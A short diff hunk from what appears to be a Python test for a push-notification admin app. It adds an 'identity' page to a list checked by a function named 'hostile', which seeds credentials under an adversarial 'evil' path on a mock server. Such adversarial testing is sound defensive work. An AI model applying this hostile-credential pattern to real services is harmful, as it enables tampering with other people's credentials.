@@ -175,7 +175,7 @@ def hostile(server, running):
     server.done("PUT", f"{evil}/credentials", credentials(running))
     writer = Writer(server, evil, texts)
     pages = ["overview", "compose", "pushes", "schedules", "templates", "deliveries", "devices", "users", "segments", "lab", "apps",
-             "credentials", "rules", "webhooks", "keys", "audit"]
+             "credentials", "rules", "identity", "webhooks", "keys", "audit"]
     user = TEXTS[0]
     quoted = urllib.parse.quote(user, safe="")
     message = {"title": TEXTS[0], "body": TEXTS[1]}
